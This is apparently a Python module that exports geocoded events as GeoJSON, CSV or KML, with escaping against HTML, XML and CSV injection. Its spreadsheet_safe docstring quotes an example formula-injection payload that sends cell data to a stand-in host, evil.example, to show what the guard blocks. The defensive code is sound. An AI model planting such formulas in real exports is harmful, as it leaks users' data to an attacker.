"""The events frame as GeoJSON, CSV or KML, for download buttons and ``python -m geo export``.

All three take the frame of :func:`geo.events.events_frame` (one row per event and
place) and keep its columns, so a row can be followed from the map to a file and back:

- GeoJSON per RFC 7946: one Point feature per row, coordinates ``[lon, lat]`` in WGS 84,
  every other column a property, ``start``/``end`` as ISO days.
- CSV: the same columns, days as ISO dates.
- KML 2.2 for Google Earth: one Placemark per row with a TimeSpan (so Earth's time slider
  works), the columns in ExtendedData, and an HTML description in which the article's
  words are escaped (Earth renders descriptions as HTML; untrusted text must not become
  markup there).
"""

from __future__ import annotations

import csv
import json
import math
import re
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from datetime import date, datetime
from typing import Any

import pandas as pd

from geo import markup

KML_NS = "http://www.opengis.net/kml/2.2"
DATE_COLUMNS = ("start", "end")
# Characters XML 1.0 cannot carry at all, even escaped.
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


@dataclass(frozen=True)
class ExportFormat:
    """What a download button needs to offer one format."""

    name: str
    extension: str
    mime: str
    label: str  # what a download button calls it


FORMATS = {
    "geojson": ExportFormat("geojson", "geojson", "application/geo+json", "GeoJSON"),
    "csv": ExportFormat("csv", "csv", "text/csv", "CSV"),
    "kml": ExportFormat("kml", "kml", "application/vnd.google-earth.kml+xml", "KML"),
}


def _plain(value: Any) -> Any:
    """A JSON/CSV-friendly value: ISO days for dates, None for missing, builtins for numpy."""
    if value is None:
        return None
    if isinstance(value, (pd.Timestamp, datetime, date)):
        if pd.isna(value):
            return None
        # isoformat, not strftime("%Y"): glibc writes the year 1 as "1", not "0001".
        return (value.date() if isinstance(value, datetime) else value).isoformat()
    if isinstance(value, float) or hasattr(value, "dtype"):
        if pd.isna(value):
            return None
        return value.item() if hasattr(value, "item") else value
    return value


def _coordinate(value: Any) -> float | None:
    v = _plain(value)
    return None if v is None or not math.isfinite(float(v)) else round(float(v), 6)


def to_geojson(df: pd.DataFrame) -> dict:
    """A GeoJSON FeatureCollection (RFC 7946) with one Point feature per row.

    Rows without coordinates get ``"geometry": null``, as the RFC allows. ``lat``/``lon``
    are not repeated in the properties; the geometry carries them.
    """
    features = []
    for row in df.to_dict("records"):
        lon, lat = _coordinate(row.get("lon")), _coordinate(row.get("lat"))
        geometry = (
            None if lon is None or lat is None else {"type": "Point", "coordinates": [lon, lat]}
        )
        properties = {k: _plain(v) for k, v in row.items() if k not in ("lat", "lon")}
        feature: dict[str, Any] = {
            "type": "Feature",
            "geometry": geometry,
            "properties": properties,
        }
        if "id" in row:
            feature["id"] = str(row["id"])
        features.append(feature)
    collection: dict[str, Any] = {"type": "FeatureCollection", "features": features}
    points = [f["geometry"]["coordinates"] for f in features if f["geometry"]]
    if points:
        lons, lats = [p[0] for p in points], [p[1] for p in points]
        collection["bbox"] = [min(lons), min(lats), max(lons), max(lats)]
    return collection


#: A cell a spreadsheet would read as a formula: it begins with = + - @, or with a tab
#: or carriage return (OWASP, "CSV Injection"), possibly after other white space.
_FORMULA_START = re.compile(r"^(?:[\t\r]|\s*[=+\-@])")
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_safe(value: Any) -> Any:
    """``value`` with a ``'`` in front if a spreadsheet would run it as a formula.

    Article text is untrusted: a line ``=HYPERLINK("http://evil.example/?d="&A2,"x")``
    in an excerpt would become a live formula in Excel or LibreOffice. OWASP's advice is
    to prefix such cells with a single quote, which spreadsheets show as text. Numbers
    written as text ("-73.9") are left alone: they are not formulas.
    """
    if isinstance(value, str) and _FORMULA_START.match(value) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def to_csv(df: pd.DataFrame, *, for_spreadsheets: bool = True) -> str:
    """The frame as CSV text: same columns, days as YYYY-MM-DD, ``\\n`` line ends.

    For people (``for_spreadsheets``, the default: downloads and ``python -m geo``), text
    cells that a spreadsheet would run as formulas are quoted (:func:`spreadsheet_safe`).
    ``for_spreadsheets=False`` keeps every cell as it is, for text this program reads
    back itself (``geo.map.loader`` types a reader's frame through it).
    """
    out = df.copy()
    for name in DATE_COLUMNS:
        if name in out:
            out[name] = [_plain(v) for v in out[name]]
    for name in out.columns if for_spreadsheets else ():
        if out[name].dtype == object or pd.api.types.is_string_dtype(out[name]):
            out[name] = [spreadsheet_safe(v) for v in out[name]]
    # Text quoted (OWASP's advice too): a bare carriage return in an excerpt would
    # otherwise end the row for csv readers, as the "\n" line end does not cover it.
    return out.to_csv(index=False, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)


def _xml_text(value: Any) -> str:
    v = _plain(value)
    return "" if v is None else _XML_ILLEGAL.sub("", str(v))


def _description(row: dict[str, Any]) -> str:
    """The balloon text: HTML rendered with autoescape (``geo/templates/kml_description.html``)."""
    names = ("title", "start", "end", "date_precision", "date_phrase", "place_name",
             "place_role", "excerpt", "reported_by", "actors", "confidence")  # fmt: skip
    values = {n: _xml_text(row.get(n, "")) for n in names}
    return str(markup.render("kml_description.html", r=values))


def to_kml(df: pd.DataFrame, name: str = "Events") -> str:
    """A KML 2.2 document with one Placemark (Point + TimeSpan) per row.

    Built with ``xml.etree`` so every value is XML-escaped; the description is HTML
    with the data HTML-escaped first, and the balloon shows only that description.
    """
    kml = ET.Element("kml", xmlns=KML_NS)
    doc = ET.SubElement(kml, "Document")
    ET.SubElement(doc, "name").text = _xml_text(name)
    style = ET.SubElement(doc, "Style", id="event")
    ET.SubElement(ET.SubElement(style, "BalloonStyle"), "text").text = "$[description]"
    for row in df.to_dict("records"):
        pm = ET.SubElement(doc, "Placemark")
        label = _xml_text(row.get("title", ""))
        if row.get("place_name"):
            label = f"{label} ({_xml_text(row['place_name'])})"
        ET.SubElement(pm, "name").text = label
        ET.SubElement(pm, "description").text = _description(row)
        if _plain(row.get("start")) or _plain(row.get("end")):
            span = ET.SubElement(pm, "TimeSpan")
            if _plain(row.get("start")):
                ET.SubElement(span, "begin").text = _xml_text(row["start"])
            if _plain(row.get("end")):
                ET.SubElement(span, "end").text = _xml_text(row["end"])
        ET.SubElement(pm, "styleUrl").text = "#event"
        data = ET.SubElement(pm, "ExtendedData")
        for key, value in row.items():
            if key in ("lat", "lon"):
                continue
            d = ET.SubElement(data, "Data", name=str(key))
            ET.SubElement(d, "value").text = _xml_text(value)
        lon, lat = _coordinate(row.get("lon")), _coordinate(row.get("lat"))
        if lon is not None and lat is not None:
            point = ET.SubElement(pm, "Point")
            ET.SubElement(point, "coordinates").text = f"{lon},{lat}"
    ET.indent(kml)
    return '<?xml version="1.0" encoding="UTF-8"?>\n' + ET.tostring(kml, encoding="unicode") + "\n"


def render(df: pd.DataFrame, fmt: str) -> str:
    """The frame in format ``fmt`` ("geojson", "csv" or "kml") as text."""
    if fmt == "geojson":
        return json.dumps(to_geojson(df), ensure_ascii=False, indent=1) + "\n"
    if fmt == "csv":
        return to_csv(df)
    if fmt == "kml":
        return to_kml(df)
    raise ValueError(f"unknown export format {fmt!r}; use one of {sorted(FORMATS)}")
